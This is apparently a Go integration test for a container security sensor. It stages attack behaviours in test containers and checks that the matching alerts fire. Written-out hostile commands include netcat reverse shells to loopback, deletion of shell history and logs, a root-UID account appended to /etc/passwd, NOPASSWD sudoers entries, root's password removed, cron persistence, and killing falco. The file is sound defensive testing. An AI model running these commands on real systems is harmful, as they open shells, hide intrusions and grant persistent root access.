package sensor

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/alert"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/testenv"
	"github.com/vigil-sec/vigil/internal/testutil/runc"
)

// portProbeSource is a small custom port scanner: one process connecting to
// 120 ports of 127.0.0.1. In the container's own network namespace nothing
// listens there, so every connection is refused at once.
const portProbeSource = `package main

import (
	"fmt"
	"net"
	"time"
)

func main() {
	refused := 0
	for port := 40000; port < 40120; port++ {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), time.Second)
		if err != nil {
			refused++
			continue
		}
		c.Close()
	}
	fmt.Printf("probed 120 ports, %d refused\n", refused)
}
`

// buildPortProbe compiles portProbeSource as a static executable at path.
// busybox has no applet that connects to many destinations from one
// process (its nc has no -z and connects once), and the fan-out detector
// counts destinations per process.
func buildPortProbe(t *testing.T, path string) {
	t.Helper()
	testenv.RequireBinary(t, "go")
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "go.mod"), "module vigiltest/portprobe\n\ngo 1.22\n", 0o644)
	writeFile(t, filepath.Join(dir, "main.go"), portProbeSource, 0o644)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("go", "build", "-o", path, ".")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOWORK=off", "GOFLAGS=-mod=mod", "GOTOOLCHAIN=local")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build the port probe with go build (is the Go toolchain installed?): %v\n%s", err, out)
	}
}

// expectRule waits for an alert of the rule in the container whose process
// has the command line argv (any executable path) and checks its severity.
func (r *liveRig) expectRule(t *testing.T, c *runc.Container, rule, severity string, argv []string) *alert.Alert {
	t.Helper()
	want := alert.CommandLine(argv, false)
	al := r.alerts.waitFor(alertWait, func(al *alert.Alert) bool {
		return al.AlertType == rule && alertIn(c.ID)(al) &&
			al.Entities.Process != nil && al.Entities.Process.CommandLine == want
	})
	if al == nil {
		t.Fatalf("no %s alert for %q in container %s within %s; the container's alerts:%s",
			rule, want, c.ID, alertWait, summary(r.alerts.all(alertIn(c.ID))))
	}
	if al.Severity != severity {
		t.Errorf("%s severity = %s, want %s", rule, al.Severity, severity)
	}
	if al.Entities.Container.Runtime != "runc" || al.Entities.Container.Host {
		t.Errorf("%s container = %+v, want the runc container", rule, al.Entities.Container)
	}
	return al
}

// Attack tools, remote shells, defence evasion and persistence, live: each
// behaviour is performed by a real container under the eBPF sensor with the
// default catalog and must reach the alert sinks naming the container and
// the process that did it.
func TestDefaultCatalogAlertsOnAttackToolsEvasionAndPersistence(t *testing.T) {
	rig := startDetectingSensor(t)

	t.Run("a custom tool connecting to 120 ports raises a connection fan-out alert", func(t *testing.T) {
		// A renamed, custom scanner dropped in the container layer: only
		// its behaviour can give it away.
		const probe = "/usr/local/bin/healthprobe"
		c := runc.NewImage(t).NewContainer(t, withTimeout(runc.Options{Args: []string{probe}, Overlay: true}))
		rig.watch(t, c)
		buildPortProbe(t, filepath.Join(c.UpperDir, probe))
		if res := run(t, c); res.ExitCode != 0 || !strings.Contains(res.Stdout, "120 refused") {
			t.Fatalf("port probe exit %d stdout %q stderr %q, want 120 refused connections", res.ExitCode, res.Stdout, res.Stderr)
		}
		al := rig.expect(t, c, wantAlert{rule: "vigil.node/NetworkFanOut", severity: alert.SeverityMedium,
			path: probe, cmdline: []string{probe}})
		if n, err := strconv.Atoi(al.Entities.Facts["fanout.distinct"]); err != nil || n <= 100 {
			t.Errorf("fanout.distinct fact = %q, want more than 100", al.Entities.Facts["fanout.distinct"])
		}
		if n := al.Entities.Network; n == nil || n.IP != "127.0.0.1" || n.Port < 40000 || n.Port >= 40120 {
			t.Errorf("fan-out alert network = %+v, want a probed port of 127.0.0.1", n)
		}
	})

	t.Run("a scanner named nmap raises a network scanning tool alert", func(t *testing.T) {
		// busybox under the name nmap only says "applet not found": the
		// exec is what is judged, nothing is scanned.
		argv := []string{"/usr/local/bin/nmap", "-sS", "-p", "1-1024", "127.0.0.1"}
		c := runc.NewImage(t).NewContainer(t, withTimeout(runc.Options{
			Args: []string{"sh", "-c", `$SCAN; exit 0`}, Env: []string{"SCAN=" + strings.Join(argv, " ")}, Overlay: true}))
		rig.watch(t, c)
		copyBusybox(t, filepath.Join(c.UpperDir, argv[0]))
		run(t, c)
		rig.expect(t, c, wantAlert{rule: "vigil.node/NetworkScanningTool", severity: alert.SeverityMedium,
			path: argv[0], cmdline: argv})
	})

	t.Run("netcat binding a shell to a connection raises netcat and reverse shell alerts", func(t *testing.T) {
		// The listener plays the attacker on the container's own loopback:
		// it sends "exit" to the shell it receives, which runs it and ends.
		// The -e part comes from the environment so that only nc's argv
		// (and not the container's shell) carries it.
		const marker = "vigil-revshell-done"
		script := `(echo "echo ` + marker + `; exit" | /usr/bin/nc -l -p 4444) & /bin/sleep 0.5; ` +
			`/usr/bin/nc 127.0.0.1 4444 $EXEC; exit 0`
		c := runc.NewImage(t).NewContainer(t, withTimeout(runc.Options{
			Args: []string{"sh", "-c", script}, Env: []string{"EXEC=-e /bin/sh -i"}}))
		rig.watch(t, c)
		if res := run(t, c); !strings.Contains(res.Stdout+res.Stderr, marker) {
			t.Fatalf("the shell behind nc did not run the listener's command: stdout %q stderr %q", res.Stdout, res.Stderr)
		}
		nc := rig.expect(t, c, wantAlert{rule: "vigil.node/NetcatRemoteExecution", severity: alert.SeverityHigh,
			path: "/bin/busybox", cmdline: []string{"/usr/bin/nc", "127.0.0.1", "4444", "-e", "/bin/sh", "-i"}})
		// busybox nc execs the shell in its own process once connected, so
		// the interactive shell is the nc process itself.
		rs := rig.expectRule(t, c, "vigil.node/ReverseShell", alert.SeverityHigh, []string{"/bin/sh", "-i"})
		if rs.Entities.Process.PID != nc.Entities.Process.PID {
			t.Errorf("reverse shell pid = %d, want the nc process %d it replaced", rs.Entities.Process.PID, nc.Entities.Process.PID)
		}
	})

	t.Run("a plain shell started on a TCP connection raises a reverse shell alert from its socket stdio alone", func(t *testing.T) {
		// No -i, and neither the shell's nor its parent's command line
		// names nc: only the kernel's view of fds 0-2 says the shell talks
		// to a socket.
		const marker = "vigil-stdio-done"
		script := `(echo "echo ` + marker + `; exit" | $NC -l -p 4445) & /bin/sleep 0.5; $NC 127.0.0.1 4445 $EXEC; exit 0`
		c := runc.NewImage(t).NewContainer(t, withTimeout(runc.Options{
			Args: []string{"sh", "-c", script}, Env: []string{"NC=/usr/bin/nc", "EXEC=-e /bin/sh"}}))
		rig.watch(t, c)
		if res := run(t, c); !strings.Contains(res.Stdout+res.Stderr, marker) {
			t.Fatalf("the shell behind the connection did not run the listener's command: stdout %q stderr %q", res.Stdout, res.Stderr)
		}
		rs := rig.expectRule(t, c, "vigil.node/ReverseShell", alert.SeverityHigh, []string{"/bin/sh"})
		if ev := rs.Entities.Event; ev == nil {
			t.Errorf("reverse shell alert carries no triggering event")
		} else if !ev.Process.StdinSocket || !ev.Process.StdoutSocket {
			t.Errorf("reverse shell exec: stdinSocket=%v stdoutSocket=%v, want both true", ev.Process.StdinSocket, ev.Process.StdoutSocket)
		}
	})

	t.Run("defence evasion and persistence steps each raise their alert", func(t *testing.T) {
		cases := []struct {
			name string
			// image adds files to the image; upper to the container layer
			// (Overlay) before start.
			image, upper func(t *testing.T, root string)
			args         []string // the container's command
			env          []string
			rule         string
			severity     string
			argv         []string // the process the alert must blame
		}{
			{
				name: "removing the shell history raises a history cleared alert",
				image: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "root/.bash_history"), "curl x | sh\n", 0o600)
				},
				args:     []string{"sh", "-c", "/bin/rm /root/.bash_history; exit $?"},
				rule:     "vigil.node/HistoryFileCleared",
				severity: alert.SeverityMedium,
				argv:     []string{"/bin/rm", "/root/.bash_history"},
			},
			{
				name:     "unsetting HISTFILE raises a history cleared alert",
				args:     []string{"sh", "-c", "unset HISTFILE; exit 0"},
				rule:     "vigil.node/HistoryFileCleared",
				severity: alert.SeverityMedium,
				argv:     []string{"sh", "-c", "unset HISTFILE; exit 0"},
			},
			{
				name: "removing a log file raises a log tampering alert",
				image: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "var/log/app.log"), "login from 10.0.0.7\n", 0o644)
				},
				args:     []string{"sh", "-c", "/bin/rm /var/log/app.log; exit $?"},
				rule:     "vigil.node/SystemLogRemoval",
				severity: alert.SeverityMedium,
				argv:     []string{"/bin/rm", "/var/log/app.log"},
			},
			{
				name:     "back-dating a system binary raises a timestamp tampering alert",
				args:     []string{"sh", "-c", "/bin/touch -d 2020-01-01 /bin/busybox; exit $?"},
				rule:     "vigil.node/TimestampTampering",
				severity: alert.SeverityLow,
				argv:     []string{"/bin/touch", "-d", "2020-01-01", "/bin/busybox"},
			},
			{
				name: "installing a crontab raises a cron alert",
				image: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "root/job"), "* * * * * /tmp/x\n", 0o644)
					if err := os.MkdirAll(filepath.Join(root, "var/spool/cron/crontabs"), 0o755); err != nil {
						t.Fatal(err)
					}
				},
				args:     []string{"sh", "-c", "/usr/bin/crontab /root/job; exit $?"},
				rule:     "vigil.node/CronModification",
				severity: alert.SeverityMedium,
				argv:     []string{"/usr/bin/crontab", "/root/job"},
			},
			{
				name: "writing a file under /etc/crontabs raises a cron alert",
				image: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "root/job"), "* * * * * /tmp/x\n", 0o644)
					if err := os.MkdirAll(filepath.Join(root, "etc/crontabs"), 0o755); err != nil {
						t.Fatal(err)
					}
				},
				args:     []string{"sh", "-c", "/bin/cp /root/job /etc/crontabs/root; exit $?"},
				rule:     "vigil.node/CronModification",
				severity: alert.SeverityMedium,
				argv:     []string{"/bin/cp", "/root/job", "/etc/crontabs/root"},
			},
			{
				// busybox-static has no adduser applet: the account is
				// added the way a minimal image allows, by appending to
				// /etc/passwd.
				name:     "appending an account to /etc/passwd raises a user addition alert",
				args:     []string{"sh", "-c", "echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd; exit 0"},
				rule:     "vigil.node/SuspectUserAddition",
				severity: alert.SeverityMedium,
				argv:     []string{"sh", "-c", "echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd; exit 0"},
			},
			{
				name:     "removing root's password with passwd raises a user addition alert",
				args:     []string{"sh", "-c", "/usr/bin/passwd -d root; exit $?"},
				rule:     "vigil.node/SuspectUserAddition",
				severity: alert.SeverityMedium,
				argv:     []string{"/usr/bin/passwd", "-d", "root"},
			},
			{
				name:     "granting sudo rights in /etc/sudoers raises a sudoers alert",
				args:     []string{"sh", "-c", "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; exit 0"},
				rule:     "vigil.node/SudoersModification",
				severity: alert.SeverityMedium,
				argv:     []string{"sh", "-c", "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; exit 0"},
			},
			{
				// busybox-static has no pkill; killall by name is the
				// same behaviour. Nothing is running to be killed.
				name:     "killing falco by name raises a security process termination alert",
				args:     []string{"sh", "-c", "/usr/bin/killall falco; exit 0"},
				rule:     "vigil.node/SecurityProcessTermination",
				severity: alert.SeverityMedium,
				argv:     []string{"/usr/bin/killall", "falco"},
			},
			{
				// busybox-static has no nohup applet: a working nohup
				// script (ignore SIGHUP, exec the program) stands in. The
				// kernel names the task after the script and runs it as
				// "/bin/sh /usr/bin/nohup /tmp/x".
				name: "nohup of a program in /tmp raises a suspicious nohup alert",
				image: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "usr/bin/nohup"), "#!/bin/sh\ntrap '' HUP\nexec \"$@\"\n", 0o755)
				},
				upper: func(t *testing.T, root string) {
					writeFile(t, filepath.Join(root, "tmp/x"), "#!/bin/sh\necho vigil-nohup-ran\n", 0o755)
				},
				args:     []string{"sh", "-c", "/usr/bin/nohup /tmp/x; exit $?"},
				rule:     "vigil.node/SuspectNohup",
				severity: alert.SeverityMedium,
				argv:     []string{"/bin/sh", "/usr/bin/nohup", "/tmp/x"},
			},
			{
				// busybox under the name sshd only says "applet not
				// found": the exec is what is judged.
				name:     "an SSH server started in a container raises a container SSH alert",
				upper:    func(t *testing.T, root string) { copyBusybox(t, filepath.Join(root, "usr/sbin/sshd")) },
				args:     []string{"sh", "-c", "/usr/sbin/sshd -D -p 2222; exit 0"},
				rule:     "vigil.node/ContainerSSH",
				severity: alert.SeverityLow,
				argv:     []string{"/usr/sbin/sshd", "-D", "-p", "2222"},
			},
		}
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				img := runc.NewImage(t)
				if tc.image != nil {
					tc.image(t, img.Root)
				}
				c := img.NewContainer(t, withTimeout(runc.Options{Args: tc.args, Env: tc.env, Overlay: true}))
				rig.watch(t, c)
				if tc.upper != nil {
					tc.upper(t, c.UpperDir)
				}
				if res := run(t, c); res.ExitCode != 0 {
					t.Fatalf("container exit %d, stdout %q stderr %q", res.ExitCode, res.Stdout, res.Stderr)
				}
				rig.expectRule(t, c, tc.rule, tc.severity, tc.argv)
			})
		}
	})

	t.Run("a web server answering 200 requests raises no Medium or High alert", func(t *testing.T) {
		const (
			requests = 200
			done     = "vigil-web-benign-done"
			url      = "http://127.0.0.1:8080/index.html"
		)
		img := runc.NewImage(t)
		writeFile(t, filepath.Join(img.Root, "var/www/index.html"), "<html><body>hello</body></html>\n", 0o644)
		// Server and clients share the container's own network namespace.
		// "wget -O /dev/null" repeatedly is a regression test: the drift
		// detector once took busybox applets for interpreters and the
		// second wget for running the /dev/null the first one "wrote".
		script := "/usr/sbin/httpd -f -p 127.0.0.1:8080 -h /var/www & " +
			"until /usr/bin/wget -q -O- " + url + " >/dev/null; do /bin/sleep 0.1; done; " +
			"i=0; while [ $i -lt " + strconv.Itoa(requests) + " ]; do /usr/bin/wget -q -O /dev/null " + url + " || exit 1; i=$((i+1)); done; " +
			"/bin/echo " + done + "; exit 0"
		c := img.NewContainer(t, withTimeout(runc.Options{Args: []string{"sh", "-c", script}, User: 33, Group: 33}))
		rig.watch(t, c)
		if res := run(t, c); res.ExitCode != 0 || !strings.Contains(res.Stdout, done) {
			t.Fatalf("web requests failed: exit %d stdout %q stderr %q", res.ExitCode, res.Stdout, res.Stderr)
		}
		// Rules run on each event before it reaches the sinks, so once the
		// last command's exec has arrived so has every alert the work
		// could raise.
		rig.events.waitFor(t, alertWait, "exec of the last command", func(ev *event.Event) bool {
			return ev.Kind == event.KindExec && ev.Container != nil && ev.Container.ID == c.ID &&
				strings.Join(ev.Process.Args, " ") == "/bin/echo "+done
		})
		if n := len(rig.events.all(func(ev *event.Event) bool {
			return ev.Kind == event.KindExec && ev.Container != nil && ev.Container.ID == c.ID &&
				ev.Process.Exe == "/bin/busybox" && len(ev.Process.Args) > 0 && ev.Process.Args[0] == "/usr/bin/wget"
		})); n < requests {
			t.Fatalf("only %d wget execs observed, want at least %d: the load was not observed", n, requests)
		}
		serious := rig.alerts.all(func(al *alert.Alert) bool {
			return alertIn(c.ID)(al) && (al.Severity == alert.SeverityMedium || al.Severity == alert.SeverityHigh)
		})
		if len(serious) > 0 {
			t.Fatalf("a web server under load raised alerts:%s", summary(serious))
		}
		t.Logf("low-severity alerts on the web server:%s", summary(rig.alerts.all(alertIn(c.ID))))
	})
}
